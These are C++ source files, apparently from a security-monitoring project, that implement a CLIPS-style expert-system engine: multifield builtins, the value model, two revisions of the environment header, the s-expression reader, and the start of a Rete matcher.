    registerFunction("length$", [](Environment &, Args &args) {
        needArgs("length$", args, 1);
        fatalIf(!args[0].isMulti(), "length$: expected multifield");
        return Value::integer((int64_t)args[0].items().size());
    });
    registerFunction("nth$", [](Environment &, Args &args) {
        needArgs("nth$", args, 2);
        fatalIf(!args[1].isMulti(), "nth$: expected multifield");
        int64_t n = args[0].intValue();
        const auto &items = args[1].items();
        if (n < 1 || (size_t)n > items.size())
            return Value::sym("nil");
        return items[n - 1];
    });
    registerFunction("member$", [](Environment &, Args &args) {
        needArgs("member$", args, 2);
        fatalIf(!args[1].isMulti(), "member$: expected multifield");
        const auto &items = args[1].items();
        for (size_t i = 0; i < items.size(); ++i)
            if (items[i] == args[0])
                return Value::integer((int64_t)i + 1);
        return Value::boolean(false);
    });
    registerFunction("first$", [](Environment &, Args &args) {
        needArgs("first$", args, 1);
        fatalIf(!args[0].isMulti(), "first$: expected multifield");
        const auto &items = args[0].items();
        if (items.empty())
            return Value::multi({});
        return Value::multi({items[0]});
    });
    registerFunction("rest$", [](Environment &, Args &args) {
        needArgs("rest$", args, 1);
        fatalIf(!args[0].isMulti(), "rest$: expected multifield");
        const auto &items = args[0].items();
        if (items.empty())
            return Value::multi({});
        return Value::multi(
            std::vector<Value>(items.begin() + 1, items.end()));
    });
    registerFunction("subseq$", [](Environment &, Args &args) {
        needArgs("subseq$", args, 3);
        fatalIf(!args[0].isMulti(), "subseq$: expected multifield");
        const auto &items = args[0].items();
        int64_t begin = args[1].intValue();
        int64_t end = args[2].intValue();
        if (begin < 1 || end < begin || (size_t)begin > items.size())
            return Value::multi({});
        end = std::min<int64_t>(end, (int64_t)items.size());
        return Value::multi(std::vector<Value>(
            items.begin() + begin - 1, items.begin() + end));
    });
    registerFunction("implode$", [](Environment &, Args &args) {
        needArgs("implode$", args, 1);
        fatalIf(!args[0].isMulti(), "implode$: expected multifield");
        std::string out;
        for (size_t i = 0; i < args[0].items().size(); ++i) {
            if (i)
                out += " ";
            out += args[0].items()[i].display();
        }
        return Value::str(out);
    });
    // `empty-list` is the helper the HTH policy uses to test whether a
    // filter returned any suspicious resources (see paper App. A.2).
    registerFunction("empty-list", [](Environment &, Args &args) {
        needArgs("empty-list", args, 1);
        if (!args[0].isMulti())
            return Value::boolean(false);
        return Value::boolean(args[0].items().empty());
    });

    //
    // Type predicates
    //
    registerFunction("numberp", [](Environment &, Args &args) {
        needArgs("numberp", args, 1);
        return Value::boolean(args[0].isNumber());
    });
    registerFunction("integerp", [](Environment &, Args &args) {
        needArgs("integerp", args, 1);
        return Value::boolean(args[0].isInteger());
    });
    registerFunction("floatp", [](Environment &, Args &args) {
        needArgs("floatp", args, 1);
        return Value::boolean(args[0].isFloat());
    });
    registerFunction("stringp", [](Environment &, Args &args) {
        needArgs("stringp", args, 1);
        return Value::boolean(args[0].isString());
    });
    registerFunction("symbolp", [](Environment &, Args &args) {
        needArgs("symbolp", args, 1);
        return Value::boolean(args[0].isSymbol());
    });
    registerFunction("lexemep", [](Environment &, Args &args) {
        needArgs("lexemep", args, 1);
        return Value::boolean(args[0].isSymbol() || args[0].isString());
    });
    registerFunction("multifieldp", [](Environment &, Args &args) {
        needArgs("multifieldp", args, 1);
        return Value::boolean(args[0].isMulti());
    });
    registerFunction("evenp", [](Environment &, Args &args) {
        needArgs("evenp", args, 1);
        return Value::boolean(args[0].intValue() % 2 == 0);
    });
    registerFunction("oddp", [](Environment &, Args &args) {
        needArgs("oddp", args, 1);
        return Value::boolean(args[0].intValue() % 2 != 0);
    });

    //
    // Misc
    //
    registerFunction("gensym", [](Environment &env, Args &args) {
        needArgs("gensym", args, 0);
        return Value::sym("gen" + std::to_string(++env.gensymCounter_));
    });
}

} // namespace hth::clips
