/**
 * @file
 * The CLIPS value model.
 *
 * CLIPS primitive types reproduced here: SYMBOL, STRING, INTEGER,
 * FLOAT and MULTIFIELD (a flat sequence of the scalar types).
 * Booleans follow CLIPS convention: the symbols TRUE and FALSE, with
 * every value other than FALSE considered true in a condition.
 */

#ifndef HTH_CLIPS_VALUE_HH
#define HTH_CLIPS_VALUE_HH

#include <cstdint>
#include <string>
#include <vector>

namespace hth::clips
{

/** A dynamically typed CLIPS value. */
class Value
{
  public:
    enum class Type { Symbol, String, Integer, Float, Multi };

    /** Default construction yields the symbol nil. */
    Value() : type_(Type::Symbol), text_("nil") {}

    /** @name Factory constructors @{ */
    static Value sym(std::string s);
    static Value str(std::string s);
    static Value integer(int64_t i);
    static Value real(double f);
    static Value multi(std::vector<Value> items);
    static Value boolean(bool b);
    /** @} */

    Type type() const { return type_; }
    bool isSymbol() const { return type_ == Type::Symbol; }
    bool isString() const { return type_ == Type::String; }
    bool isInteger() const { return type_ == Type::Integer; }
    bool isFloat() const { return type_ == Type::Float; }
    bool isMulti() const { return type_ == Type::Multi; }
    bool isNumber() const { return isInteger() || isFloat(); }

    /** Text payload; valid for Symbol and String values. */
    const std::string &text() const { return text_; }
    int64_t intValue() const { return int_; }
    double floatValue() const { return float_; }

    /** Numeric value widened to double; panics on non-numbers. */
    double asDouble() const;

    /** Multifield elements; valid for Multi values. */
    const std::vector<Value> &items() const { return items_; }
    std::vector<Value> &items() { return items_; }

    /** CLIPS truthiness: everything except the symbol FALSE. */
    bool truthy() const;

    /** Structural equality, CLIPS `eq` semantics (type sensitive). */
    bool operator==(const Value &other) const;
    bool operator!=(const Value &other) const { return !(*this == other); }

    /** Render in CLIPS display syntax (strings quoted). */
    std::string toString() const;

    /**
     * Render without string quoting, the way printout displays
     * values.
     */
    std::string display() const;

  private:
    Type type_;
    std::string text_;
    int64_t int_ = 0;
    double float_ = 0.0;
    std::vector<Value> items_;
};

} // namespace hth::clips

#endif // HTH_CLIPS_VALUE_HH
