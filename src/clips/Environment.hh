/**
 * @file
 * The CLIPS environment: constructs, working memory, inference engine.
 *
 * This is a from-scratch forward-chaining production system
 * implementing the CLIPS subset the HTH policy uses (plus enough
 * extra to be generally useful):
 *
 *  - deftemplate (slot / multislot, defaults), implied ordered facts
 *  - defrule with pattern CEs (fact-address binding `?f <-`),
 *    `test` CEs and `not` CEs, `declare (salience ...)`
 *  - defglobal / deffunction
 *  - assert / retract / bind / if / while / printout and a library of
 *    builtin functions (arithmetic, comparison, string and multifield
 *    operations)
 *  - agenda ordered by salience then recency, with refraction
 *
 * The matcher is a direct join over working memory rather than a Rete
 * network; facts are indexed by template, which is ample for the
 * event-at-a-time workload Secpert generates (each Harrier event is
 * asserted, resolved and retracted).
 */

#ifndef HTH_CLIPS_ENVIRONMENT_HH
#define HTH_CLIPS_ENVIRONMENT_HH

#include <cstdint>
#include <functional>
#include <iosfwd>
#include <map>
#include <memory>
#include <set>
#include <string>
#include <vector>

#include "clips/Fact.hh"
#include "clips/Rule.hh"
#include "clips/Sexpr.hh"
#include "clips/Value.hh"

namespace hth::clips
{

/** Variable bindings active during matching / RHS execution. */
struct Bindings
{
    std::map<std::string, Value> vars;
    std::map<std::string, FactId> factVars;
};

/** Engine statistics, used by the performance evaluation. */
struct EngineStats
{
    uint64_t fires = 0;
    uint64_t asserts = 0;
    uint64_t retracts = 0;
    uint64_t matchPasses = 0;
};

/** A record of one rule firing, for tests and diagnostics. */
struct FireRecord
{
    std::string rule;
    std::vector<FactId> facts;
};

/** The expert-system environment. */
class Environment
{
  public:
    /** Function taking already evaluated arguments. */
    using NativeFn =
        std::function<Value(Environment &, std::vector<Value> &)>;

    Environment();
    ~Environment();

    Environment(const Environment &) = delete;
    Environment &operator=(const Environment &) = delete;

    /** @name Construct loading @{ */

    /** Parse and execute every top-level construct in @p source. */
    void loadString(const std::string &source);

    /** Evaluate a single expression and return its value. */
    Value evalString(const std::string &source);

    /** @} */
    /** @name Templates @{ */

    const Template *findTemplate(const std::string &name) const;

    /** Define a template programmatically (from C++ embedders). */
    const Template *defineTemplate(const std::string &name,
                                   const std::vector<SlotDef> &slots);

    /** @} */
    /** @name Facts @{ */

    /** Assert a fact given in CLIPS syntax, e.g. "(foo (bar 1))". */
    FactId assertString(const std::string &text);

    /** Assert a fact built programmatically; slots by name. */
    FactId assertFact(
        const std::string &tmpl,
        const std::vector<std::pair<std::string, Value>> &slots);

    /** Retract a fact by id. @return false if already gone. */
    bool retract(FactId id);

    /** Live fact by id, or nullptr. */
    const Fact *fact(FactId id) const;

    /** All live facts, in assertion order. */
    std::vector<const Fact *> facts() const;

    /** Live facts of one template. */
    std::vector<const Fact *>
    factsByTemplate(const std::string &name) const;

    /** Retract every fact (constructs are preserved). */
    void clearFacts();

    /** @} */
    /** @name Inference @{ */

    /**
     * Run the match-resolve-act cycle.
     *
     * @param max_fires stop after this many rule firings (-1: no cap).
     * @return the number of rules fired.
     */
    int run(int max_fires = -1);

    /** Rules fired since construction, in order. */
    const std::vector<FireRecord> &fireTrace() const
    {
        return fireTrace_;
    }

    const EngineStats &stats() const { return stats_; }

    size_t ruleCount() const { return rules_.size(); }
    size_t liveFactCount() const;

    /** @} */
    /** @name Embedding hooks @{ */

    /** Register a C++ function callable from rules. */
    void registerFunction(const std::string &name, NativeFn fn);

    /** Redirect printout's `t` router (default: std::cout). */
    void setOutput(std::ostream *os) { out_ = os; }
    std::ostream &output();

    Value getGlobal(const std::string &name) const;
    void setGlobal(const std::string &name, Value v);

    /** Evaluate an expression under @p binds (builtins use this). */
    Value eval(const Sexpr &expr, Bindings &binds);

    /** @} */

  private:
    struct DefFunction
    {
        std::string name;
        std::vector<std::string> params;
        std::string restParam;      //!< "" when absent
        std::vector<Sexpr> body;
    };

    struct Activation
    {
        const Rule *rule = nullptr;
        std::vector<FactId> facts;
        Bindings binds;
        uint64_t recency = 0;
    };

    /** @name Construct compilation @{ */
    void execTopLevel(const Sexpr &form);
    void compileTemplate(const Sexpr &form);
    void compileRule(const Sexpr &form);
    std::vector<CondElement> compileCe(const Sexpr &item,
                                       const std::string &rule_name);
    void compileGlobal(const Sexpr &form);
    void compileFunction(const Sexpr &form);
    PatternCE compilePattern(const Sexpr &form);
    const Template *impliedTemplate(const std::string &name,
                                    size_t min_fields);
    /** @} */

    /** @name Matching @{ */
    void computeActivations(std::vector<Activation> &out);
    void matchFrom(const Rule &rule, size_t ce_idx, Bindings &binds,
                   std::vector<FactId> &used,
                   std::vector<Activation> &out);
    bool unifyPattern(const PatternCE &pat, const Fact &f,
                      Bindings &binds) const;
    static bool unifySequence(const std::vector<PatTerm> &terms,
                              size_t term_idx,
                              const std::vector<Value> &fields,
                              size_t field_idx, Bindings &binds);
    static bool unifyTermSingle(const PatTerm &term, const Value &v,
                                Bindings &binds);
    /** @} */

    /** @name Evaluation @{ */
    Value evalCall(const Sexpr &expr, Bindings &binds);
    Value callDefFunction(const DefFunction &fn,
                          std::vector<Value> &args);
    Value doAssert(const Sexpr &form, Bindings &binds);
    void installBuiltins();
    /** @} */

    std::map<std::string, std::unique_ptr<Template>> templates_;
    std::vector<std::unique_ptr<Rule>> rules_;
    std::map<std::string, Value> globals_;
    std::map<std::string, DefFunction> functions_;
    std::map<std::string, NativeFn> natives_;

    std::vector<std::unique_ptr<Fact>> factStore_;
    std::map<std::string, std::vector<Fact *>> factsByTmpl_;
    FactId nextFactId_ = 1;

    std::set<std::pair<std::string, std::vector<FactId>>> fired_;
    std::vector<FireRecord> fireTrace_;
    EngineStats stats_;

    std::ostream *out_ = nullptr;
    uint64_t gensymCounter_ = 0;

    friend struct BuiltinInstaller;
};

} // namespace hth::clips

#endif // HTH_CLIPS_ENVIRONMENT_HH
