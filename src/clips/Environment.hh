/**
 * @file
 * The CLIPS environment: constructs, working memory, inference engine.
 *
 * This is a from-scratch forward-chaining production system
 * implementing the CLIPS subset the HTH policy uses (plus enough
 * extra to be generally useful):
 *
 *  - deftemplate (slot / multislot, defaults), implied ordered facts
 *  - defrule with pattern CEs (fact-address binding `?f <-`),
 *    `test` CEs and `not` CEs, `declare (salience ...)`
 *  - defglobal / deffunction
 *  - assert / retract / bind / if / while / printout and a library of
 *    builtin functions (arithmetic, comparison, string and multifield
 *    operations)
 *  - agenda ordered by salience then recency, with refraction
 *
 * The default matcher is a genuine Rete network (see Rete.hh):
 * rules compile into a shared alpha/beta node graph with token
 * memories, and an assert or retract propagates only the delta —
 * match cost follows working-memory churn, not rules × facts. The
 * pre-Rete matchers are retained as differential oracles: DirtyRescan
 * (template-indexed alpha memories + dirty-rule rescans) and Naive
 * (full recompute per fire).
 */

#ifndef HTH_CLIPS_ENVIRONMENT_HH
#define HTH_CLIPS_ENVIRONMENT_HH

#include <cstdint>
#include <functional>
#include <iosfwd>
#include <map>
#include <memory>
#include <set>
#include <string>
#include <unordered_map>
#include <vector>

#include "clips/Fact.hh"
#include "clips/Rule.hh"
#include "clips/Sexpr.hh"
#include "clips/Value.hh"
#include "obs/Profiler.hh"

namespace hth::clips
{

/**
 * An association list: a flat vector with linear search. Binding
 * sets are a handful of entries, where a node-based map pays an
 * allocation per insert and a deep copy per matcher backtrack.
 * Insertion order is preserved, which lets the matcher undo a failed
 * candidate by truncating to a saved mark (everything the unifier
 * net-adds is an append of a fresh key).
 */
template <typename V>
struct BindMap
{
    using Entry = std::pair<std::string, V>;
    std::vector<Entry> entries;

    typename std::vector<Entry>::iterator
    find(const std::string &key)
    {
        auto it = entries.begin();
        for (; it != entries.end(); ++it)
            if (it->first == key)
                break;
        return it;
    }

    typename std::vector<Entry>::const_iterator
    find(const std::string &key) const
    {
        auto it = entries.begin();
        for (; it != entries.end(); ++it)
            if (it->first == key)
                break;
        return it;
    }

    auto begin() { return entries.begin(); }
    auto end() { return entries.end(); }
    auto begin() const { return entries.begin(); }
    auto end() const { return entries.end(); }

    V &
    operator[](const std::string &key)
    {
        auto it = find(key);
        if (it != entries.end())
            return it->second;
        // First insert pays for a typical rule's worth of bindings
        // up front; the append path is realloc-free after that.
        if (entries.capacity() == 0)
            entries.reserve(8);
        entries.emplace_back(key, V());
        return entries.back().second;
    }

    void
    erase(const std::string &key)
    {
        auto it = find(key);
        if (it != entries.end())
            entries.erase(it);
    }

    size_t size() const { return entries.size(); }

    /** Drop every entry appended after size() was @p mark. */
    void truncate(size_t mark) { entries.resize(mark); }
};

/** Variable bindings active during matching / RHS execution. */
struct Bindings
{
    BindMap<Value> vars;
    BindMap<FactId> factVars;
};

/** Engine statistics, used by the performance evaluation. */
struct EngineStats
{
    uint64_t fires = 0;
    uint64_t asserts = 0;
    uint64_t retracts = 0;
    uint64_t matchPasses = 0;
    /** Rule-level match recomputations: under the naive strategy
     * every rule per pass, under DirtyRescan only the rules dirtied
     * by a fact/global change (the Rete matcher never recomputes). */
    uint64_t ruleMatches = 0;
    /** Largest agenda observed when selecting an activation. */
    uint64_t agendaPeak = 0;
    /** Activations pushed onto an agenda (pre-refraction joins). */
    uint64_t activations = 0;
    /** Alpha-memory hits: under Naive/DirtyRescan, non-empty
     * template-index lookups while matching; under Rete, facts
     * accepted into an alpha node's memory. */
    uint64_t alphaHits = 0;
    /** Dirty-rule rescans performed by the DirtyRescan matcher. */
    uint64_t dirtyRescans = 0;
    /** @name Rete matcher counters @{ */
    uint64_t reteTokensCreated = 0;
    uint64_t reteTokensDestroyed = 0;
    /** Token × fact unification attempts at join/not/exists nodes. */
    uint64_t reteJoinAttempts = 0;
    /** @} */
};

/**
 * How run() keeps the agenda consistent with working memory.
 *
 * Rete is the default: rules compile into a shared alpha/beta node
 * network with token memories, and assert/retract propagate deltas
 * that maintain the agenda directly — run() never recomputes a
 * match. DirtyRescan (the PR 2 incremental matcher) indexes facts by
 * template, dirties only the rules whose LHS references a changed
 * template and rescans those; Naive recomputes the whole agenda
 * (all rules × all facts) after every fire. Both are kept as
 * reference oracles for differential testing.
 */
enum class MatchStrategy
{
    Naive,
    DirtyRescan,
    Rete,
};

class ReteNetwork;

/** A record of one rule firing, for tests and diagnostics. */
struct FireRecord
{
    std::string rule;
    std::vector<FactId> facts;
};

/** The expert-system environment. */
class Environment
{
  public:
    /** Function taking already evaluated arguments. */
    using NativeFn =
        std::function<Value(Environment &, std::vector<Value> &)>;

    Environment();
    ~Environment();

    Environment(const Environment &) = delete;
    Environment &operator=(const Environment &) = delete;

    /** @name Construct loading @{ */

    /** Parse and execute every top-level construct in @p source. */
    void loadString(const std::string &source);

    /** Evaluate a single expression and return its value. */
    Value evalString(const std::string &source);

    /** @} */
    /** @name Templates @{ */

    const Template *findTemplate(const std::string &name) const;

    /** Define a template programmatically (from C++ embedders). */
    const Template *defineTemplate(const std::string &name,
                                   const std::vector<SlotDef> &slots);

    /** @} */
    /** @name Facts @{ */

    /** Assert a fact given in CLIPS syntax, e.g. "(foo (bar 1))". */
    FactId assertString(const std::string &text);

    /** Assert a fact built programmatically; slots by name. */
    FactId assertFact(
        const std::string &tmpl,
        const std::vector<std::pair<std::string, Value>> &slots);

    /** Retract a fact by id. @return false if already gone. */
    bool retract(FactId id);

    /** Live fact by id, or nullptr. */
    const Fact *fact(FactId id) const;

    /** All live facts, in assertion order. */
    std::vector<const Fact *> facts() const;

    /** Live facts of one template, in assertion order. Served by
     * reference straight from the template index — no per-call copy
     * or working-memory scan. The reference is invalidated by any
     * assert or retract. */
    const std::vector<const Fact *> &
    factsByTemplate(const std::string &name) const;

    /** Retract every fact (constructs are preserved). */
    void clearFacts();

    /** @} */
    /** @name Inference @{ */

    /**
     * Run the match-resolve-act cycle.
     *
     * @param max_fires stop after this many rule firings (-1: no cap).
     * @return the number of rules fired.
     */
    int run(int max_fires = -1);

    /** Rules fired since construction, in order. */
    const std::vector<FireRecord> &fireTrace() const
    {
        return fireTrace_;
    }

    /** The fire trace as one line per firing: "rule f1,f2". The
     * canonical form differential tests compare byte-for-byte. */
    std::string fireTraceToString() const;

    const EngineStats &stats() const { return stats_; }

    /** Activations created per rule since construction, keyed by
     * rule name (redefinitions of a name accumulate). */
    std::map<std::string, uint64_t> activationCountsByRule() const;

    /** Firings per rule, derived from the fire trace. */
    std::map<std::string, uint64_t> fireCountsByRule() const;

    /** Attribute match/fire time to @p profiler (null detaches). */
    void setProfiler(obs::PhaseProfiler *profiler)
    {
        profiler_ = profiler;
    }

    /** Switch matchers; pending agenda state is rebuilt so traces
     * are unaffected by when the switch happens. */
    void setMatchStrategy(MatchStrategy s);
    MatchStrategy matchStrategy() const { return strategy_; }

    size_t ruleCount() const { return rules_.size(); }
    size_t liveFactCount() const;

    /** @name Rete network introspection (tests, telemetry) @{ */
    /** Tokens currently held in beta memories (0 off-Rete); always
     * equals stats().reteTokensCreated - reteTokensDestroyed. */
    size_t reteLiveTokens() const;
    size_t reteAlphaNodes() const;
    size_t reteBetaNodes() const;
    /** @} */

    /** @} */
    /** @name Embedding hooks @{ */

    /** Register a C++ function callable from rules. */
    void registerFunction(const std::string &name, NativeFn fn);

    /** Redirect printout's `t` router (default: std::cout). */
    void setOutput(std::ostream *os) { out_ = os; }
    std::ostream &output();

    Value getGlobal(const std::string &name) const;
    void setGlobal(const std::string &name, Value v);

    /** Evaluate an expression under @p binds (builtins use this). */
    Value eval(const Sexpr &expr, Bindings &binds);

    /** @} */

  private:
    struct DefFunction
    {
        std::string name;
        std::vector<std::string> params;
        std::string restParam;      //!< "" when absent
        std::vector<Sexpr> body;
    };

    struct Activation
    {
        const Rule *rule = nullptr;
        std::vector<FactId> facts;
        Bindings binds;
        uint64_t recency = 0;
    };

    /** @name Construct compilation @{ */
    void execTopLevel(const Sexpr &form);
    void compileTemplate(const Sexpr &form);
    void compileRule(const Sexpr &form);
    std::vector<CondElement> compileCe(const Sexpr &item,
                                       const std::string &rule_name);
    void compileGlobal(const Sexpr &form);
    void compileFunction(const Sexpr &form);
    PatternCE compilePattern(const Sexpr &form);
    const Template *impliedTemplate(const std::string &name,
                                    size_t min_fields);
    /** @} */

    /** @name Matching @{ */
    void computeActivations(std::vector<Activation> &out);
    void matchFrom(const Rule &rule, size_t ce_idx, Bindings &binds,
                   std::vector<FactId> &used,
                   std::vector<Activation> &out);

    /** Total order over activations (higher priority first): salience
     * desc, recency desc, name asc, definition index asc, then the
     * supporting facts — shared by both strategies so they select
     * identically. */
    static bool beats(const Activation &a, const Activation &b);

    /** Recompute the activations of every dirty rule (incremental). */
    void refreshAgenda();
    /** A fact of @p tmpl changed: dirty the rules that reference it. */
    void noteTemplateChanged(const Template *tmpl);
    /** A global or deffunction changed: test CEs may flip. */
    void markAllTestRulesDirty();
    void markAllRulesDirty();
    void removeActivationsOf(const Rule *rule);
    /** Drop agenda entries supported by a retracted fact. */
    void removeActivationsUsing(FactId id);
    /** Drop refraction records that reference dead facts. */
    void sweepFired();
    static bool unifyPattern(const PatternCE &pat, const Fact &f,
                             Bindings &binds);
    static bool unifySequence(const std::vector<PatTerm> &terms,
                              size_t term_idx,
                              const std::vector<Value> &fields,
                              size_t field_idx, Bindings &binds);
    static bool unifyTermSingle(const PatTerm &term, const Value &v,
                                Bindings &binds);
    /** @} */

    /** @name Rete integration @{ */
    /** Tear down and rebuild the network from rules_ + live facts;
     * terminal priming repopulates the (pre-cleared) agenda. */
    void rebuildRete();
    /** A token reached a terminal node: queue an activation unless
     * refraction already burned its key. */
    void reteActivate(const Rule *rule, std::vector<FactId> facts,
                      const Bindings &binds);
    /** The supporting token died: withdraw the exact activation. */
    void reteDeactivate(const Rule *rule,
                        const std::vector<FactId> &facts);
    /** @} */

    /** @name Evaluation @{ */
    Value evalCall(const Sexpr &expr, Bindings &binds);
    Value callDefFunction(const DefFunction &fn,
                          std::vector<Value> &args);
    Value doAssert(const Sexpr &form, Bindings &binds);
    void installBuiltins();
    /** @} */

    std::map<std::string, std::unique_ptr<Template>> templates_;
    std::vector<std::unique_ptr<Rule>> rules_;
    // Hashed: looked up per ?*global*, per call and per pattern CE
    // respectively; nothing iterates them in key order.
    std::unordered_map<std::string, Value> globals_;
    std::unordered_map<std::string, DefFunction> functions_;
    std::unordered_map<std::string, NativeFn> natives_;

    std::vector<std::unique_ptr<Fact>> factStore_;
    /** Template index: live facts per template, assertion order.
     * Doubles as the factsByTemplate() answer and the Rete alpha
     * priming source. */
    std::unordered_map<std::string, std::vector<const Fact *>>
        factsByTmpl_;
    /** O(1) id lookup; entries persist after retraction (the Fact
     * carries the retracted flag) until clearFacts(). */
    std::unordered_map<FactId, Fact *> factIndex_;
    FactId nextFactId_ = 1;

    /** Refraction memory, keyed (rule name, sorted supporting fact
     * ids). Transparent comparator so hot-path lookups can pass a
     * pair of references instead of copying the name and key. */
    struct FiredLess
    {
        using is_transparent = void;
        template <typename A, typename B>
        bool operator()(const A &a, const B &b) const
        {
            if (a.first != b.first)
                return a.first < b.first;
            return a.second < b.second;
        }
    };
    std::set<std::pair<std::string, std::vector<FactId>>, FiredLess>
        fired_;
    uint64_t retractsSinceSweep_ = 0;
    std::vector<FireRecord> fireTrace_;
    EngineStats stats_;
    /** Activations per rule, parallel to rules_ (Rule::defIndex). */
    std::vector<uint64_t> ruleActivations_;
    obs::PhaseProfiler *profiler_ = nullptr;

    /** @name Matcher state @{ */
    MatchStrategy strategy_ = MatchStrategy::Rete;
    /** Live exactly while strategy_ == Rete. */
    std::unique_ptr<ReteNetwork> rete_;
    std::vector<Activation> agenda_;    //!< maintained across fires
    std::vector<char> ruleDirty_;       //!< parallel to rules_
    bool anyDirty_ = false;
    /** DirtyRescan index: template -> rules referencing it. */
    std::map<const Template *, std::vector<size_t>> rulesByTmpl_;
    std::vector<size_t> testRules_;     //!< rules with test CEs
    /** @} */

    std::ostream *out_ = nullptr;
    uint64_t gensymCounter_ = 0;
    /** Recycled call-argument vectors (evalCall). */
    std::vector<std::vector<Value>> valsPool_;

    friend struct BuiltinInstaller;
    friend class ReteNetwork;
};

} // namespace hth::clips

#endif // HTH_CLIPS_ENVIRONMENT_HH
