/**
 * @file
 * The CLIPS reader: tokenizer and s-expression parser.
 *
 * The reader understands the lexical syntax used by CLIPS constructs:
 * `;` comments, double-quoted strings with backslash escapes,
 * integers, floats, symbols (including `=>`, `<-` and `crlf`), single
 * variables `?x`, multifield variables `$?x` and global variables
 * `?*x*`.
 */

#ifndef HTH_CLIPS_SEXPR_HH
#define HTH_CLIPS_SEXPR_HH

#include <cstdint>
#include <string>
#include <vector>

namespace hth::clips
{

/** A parsed s-expression node. */
struct Sexpr
{
    enum class Kind {
        List,       //!< (item ...)
        Symbol,     //!< bare word
        String,     //!< "text"
        Integer,    //!< 42
        Float,      //!< 4.2
        Variable,   //!< ?x
        MultiVar,   //!< $?x
        GlobalVar,  //!< ?*x*
    };

    Kind kind = Kind::List;
    std::string text;           //!< payload for all non-numeric kinds
    int64_t intValue = 0;
    double floatValue = 0.0;
    std::vector<Sexpr> items;   //!< children for List

    bool isList() const { return kind == Kind::List; }
    bool isSymbol() const { return kind == Kind::Symbol; }
    bool isSymbol(const std::string &s) const
    {
        return kind == Kind::Symbol && text == s;
    }

    /** Head symbol of a list, or "" when not a symbol-headed list. */
    std::string head() const;

    /** Render back to source-ish text (for diagnostics). */
    std::string toString() const;
};

/**
 * Parse all top-level s-expressions in @p source.
 *
 * @throws hth::FatalError on malformed input.
 */
std::vector<Sexpr> parseSexprs(const std::string &source);

/** Parse exactly one s-expression; fatal if none or trailing junk. */
Sexpr parseOneSexpr(const std::string &source);

} // namespace hth::clips

#endif // HTH_CLIPS_SEXPR_HH
