#include "clips/Rete.hh"

#include <algorithm>

#include "support/Logging.hh"

namespace hth::clips
{

namespace
{

/** Serialize a value into a hash key that agrees with Value
 * equality: equal values yield equal keys, and the type prefix keeps
 * symbol/string/number renderings apart. */
void
appendValueKey(std::string &out, const Value &v)
{
    switch (v.type()) {
      case Value::Type::Symbol:
        out += 'y';
        out += v.text();
        return;
      case Value::Type::String:
        out += 's';
        out += v.text();
        return;
      case Value::Type::Integer:
        out += 'i';
        out += std::to_string(v.intValue());
        return;
      case Value::Type::Float:
        out += 'f';
        out += std::to_string(v.floatValue());
        return;
      case Value::Type::Multi:
        out += 'm';
        out += std::to_string(v.items().size());
        for (const Value &item : v.items()) {
            out += '|';
            appendValueKey(out, item);
        }
        return;
    }
}

std::string
slotValueKey(int slot, const Value &v)
{
    std::string out = std::to_string(slot);
    out += '=';
    appendValueKey(out, v);
    return out;
}

/** Structural signature of a pattern, variable names included: two
 * patterns with the same signature match the same facts *and* bind
 * the same variables, so the nodes built from them are shareable. */
std::string
patternSig(const PatternCE &pat)
{
    std::string out = pat.tmpl->name;
    for (const SlotPattern &sp : pat.slotPatterns) {
        out += '#';
        out += std::to_string(sp.slotIndex);
        for (const PatTerm &t : sp.terms) {
            switch (t.kind) {
              case PatTerm::Kind::Literal:
                out += 'L';
                appendValueKey(out, t.literal);
                break;
              case PatTerm::Kind::SingleVar:
                out += 'V';
                out += t.var;
                break;
              case PatTerm::Kind::MultiVar:
                out += 'M';
                out += t.var;
                break;
              case PatTerm::Kind::Wildcard:
                out += 'W';
                break;
              case PatTerm::Kind::MultiWild:
                out += 'X';
                break;
            }
            out += ';';
        }
    }
    return out;
}

} // namespace

ReteNetwork::ReteNetwork(Environment &env) : env_(env)
{
    root_.kind = BetaNode::Kind::Root;
    auto tok = std::make_unique<Token>();
    tok->node = &root_;
    tok->bindsOwner = tok.get();
    rootToken_ = tok.get();
    root_.memory.push_back(std::move(tok));
    ++env_.stats_.reteTokensCreated;
}

ReteNetwork::~ReteNetwork()
{
    // Keep the token balance invariant (created - destroyed = live)
    // intact across teardown and network rebuilds.
    env_.stats_.reteTokensDestroyed += liveTokens();
}

size_t
ReteNetwork::liveTokens() const
{
    size_t n = root_.memory.size();
    for (const auto &node : nodes_)
        n += node->memory.size();
    return n;
}

//
// Network construction
//

std::string
ReteNetwork::alphaKeyOf(const Template *tmpl,
                        const std::vector<AlphaTest> &tests)
{
    std::string out = tmpl->name;
    for (const AlphaTest &t : tests) {
        out += '#';
        out += slotValueKey(t.slotIndex, t.expect);
    }
    return out;
}

std::string
ReteNetwork::ceKeyOf(const CondElement &ce)
{
    switch (ce.kind) {
      case CondElement::Kind::Pattern:
        return "J|" + ce.pattern.factVar + '|' + patternSig(ce.pattern);
      case CondElement::Kind::Not:
        return "N|" + patternSig(ce.pattern);
      case CondElement::Kind::Exists:
        return "E|" + patternSig(ce.pattern);
      case CondElement::Kind::Test:
        return std::string("T|") + (ce.testMutates ? 'm' : 'p') + '|' +
               ce.testExpr.toString();
    }
    return "?";
}

bool
ReteNetwork::alphaAccepts(const AlphaNode *a, const Fact *f)
{
    for (const AlphaTest &t : a->tests)
        if (!(f->slots[t.slotIndex] == t.expect))
            return false;
    return true;
}

ReteNetwork::AlphaNode *
ReteNetwork::internAlpha(const PatternCE &pat)
{
    // The constant part of the pattern: every slot whose terms are
    // all literals. A fully-literal multislot run must equal the
    // whole multifield, which collapses to one Value comparison.
    std::vector<AlphaTest> tests;
    for (const SlotPattern &sp : pat.slotPatterns) {
        bool all_literal = !sp.terms.empty();
        for (const PatTerm &t : sp.terms) {
            if (t.kind != PatTerm::Kind::Literal) {
                all_literal = false;
                break;
            }
        }
        if (!all_literal)
            continue;
        AlphaTest test;
        test.slotIndex = sp.slotIndex;
        const SlotDef &def = pat.tmpl->slots[sp.slotIndex];
        if (def.multislot) {
            std::vector<Value> vals;
            for (const PatTerm &t : sp.terms)
                vals.push_back(t.literal);
            test.expect = Value::multi(std::move(vals));
        } else {
            test.expect = sp.terms[0].literal;
        }
        tests.push_back(std::move(test));
    }
    std::stable_sort(tests.begin(), tests.end(),
                     [](const AlphaTest &a, const AlphaTest &b) {
                         return a.slotIndex < b.slotIndex;
                     });

    const std::string sig = alphaKeyOf(pat.tmpl, tests);
    auto it = alphaBySig_.find(sig);
    if (it != alphaBySig_.end())
        return it->second;

    auto node = std::make_unique<AlphaNode>();
    node->tmpl = pat.tmpl;
    node->tests = std::move(tests);
